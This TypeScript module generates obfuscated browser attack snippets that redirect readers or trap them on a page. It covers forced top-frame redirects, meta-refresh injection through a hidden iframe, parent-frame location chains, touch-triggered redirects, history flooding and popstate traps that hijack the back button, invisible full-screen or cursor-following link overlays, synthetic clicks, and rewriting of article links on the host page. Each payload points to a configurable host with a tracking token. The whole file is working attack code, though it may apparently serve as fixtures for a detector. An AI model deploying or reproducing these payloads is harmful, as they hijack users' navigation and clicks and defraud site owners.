import { spelled } from './obfuscation.ts'
import { framedOnly, type Snippet, type SnippetInput, snippet } from './snippet.ts'

/** Attacks that redirect readers or keep them from leaving. */

const address = ({ host, token }: SnippetInput, path = 'c') => `https://${host}/${path}?s=${token}`

export const forcedRedirect = {
  'top-navigation': (input: SnippetInput): Snippet =>
    snippet(`window.top.location.href=u+'&r='+encodeURIComponent(document.referrer)`, (match) =>
      framedOnly(
        `var u=${spelled(address(input), input.obfuscation)};setTimeout(function(){try{${match}}catch(e){}},900);`,
      ),
    ),
  'meta-refresh': (input: SnippetInput): Snippet =>
    snippet(`'<meta http-equiv="refresh" content="1;url='+d+'">'`, (match) =>
      framedOnly(
        `var d=${spelled(address(input, 'go'), input.obfuscation)},f=document.createElement('iframe');f.style.display='none';f.srcdoc=${match};document.body.appendChild(f);`,
      ),
    ),
  'location-chain': (input: SnippetInput): Snippet =>
    snippet(`n=n.parent;n['loc'+'ation']['rep'+'lace'](h)`, (match) =>
      framedOnly(
        `var h=${spelled(address(input, 'hop/1'), input.obfuscation)},n=self,i=0;while(n!==top&&i++<4){try{${match}}catch(e){break}}`,
      ),
    ),
  'touch-redirect': (input: SnippetInput): Snippet =>
    snippet(
      `document.addEventListener('touchend',function(){window.open(t,'_top')},{once:true,capture:true})`,
      (match) =>
        framedOnly(
          `if(!('ontouchstart' in window))return;var t=${spelled(address(input, 'tap'), input.obfuscation)};${match};`,
        ),
    ),
}

export const backButtonHijack = {
  'history-flood': (input: SnippetInput): Snippet =>
    snippet(`for(var i=0;i<12;i++)history.pushState({k:'${input.token}',i:i},'',location.href)`, (match) =>
      framedOnly(`var w=${spelled(`https://${input.host}/stay`, input.obfuscation)};try{${match}}catch(e){}`),
    ),
  'popstate-trap': (input: SnippetInput): Snippet =>
    snippet(`window.addEventListener('popstate',function(){top.location.replace(b)})`, (match) =>
      framedOnly(
        `var b=${spelled(address(input, 'back'), input.obfuscation)};history.pushState(null,'','#${input.token}');${match};`,
      ),
    ),
}

export const clickHijack = {
  'transparent-overlay': (input: SnippetInput): Snippet =>
    snippet(
      `<a href="https://${input.host}/o?s=${input.token}" target="_top" style="position:fixed;inset:0;opacity:.004;z-index:2147483647"></a>`,
      (match) => `<div class="vw-${input.token}" aria-hidden="true">${match}</div>`,
    ),
  'cursor-follow': (input: SnippetInput): Snippet =>
    snippet(`a.style.left=(e.clientX-6)+'px';a.style.top=(e.clientY-6)+'px'`, (match) =>
      framedOnly(
        `var a=document.createElement('a');a.href=${spelled(address(input, 'f'), input.obfuscation)};a.target='_top';a.style.cssText='position:fixed;width:12px;height:12px;opacity:0;z-index:99999';document.body.appendChild(a);document.addEventListener('mousemove',function(e){${match}});`,
      ),
    ),
  'synthetic-click': (input: SnippetInput): Snippet =>
    snippet(`l.dispatchEvent(new MouseEvent('click',{bubbles:true,cancelable:true,view:window}))`, (match) =>
      framedOnly(
        `var l=document.createElement('a');l.href=${spelled(address(input, 'k'), input.obfuscation)};l.target='_blank';document.body.appendChild(l);setTimeout(function(){${match}},${1200 + input.token.length * 10});`,
      ),
    ),
  'page-rewired': (input: SnippetInput): Snippet =>
    snippet(`top.document.querySelectorAll('article a').forEach(function(e){e.href=r})`, (match) =>
      framedOnly(
        `var r=${spelled(address(input, 'w'), input.obfuscation)};setTimeout(function(){try{${match}}catch(e){}},1500);`,
      ),
    ),
}
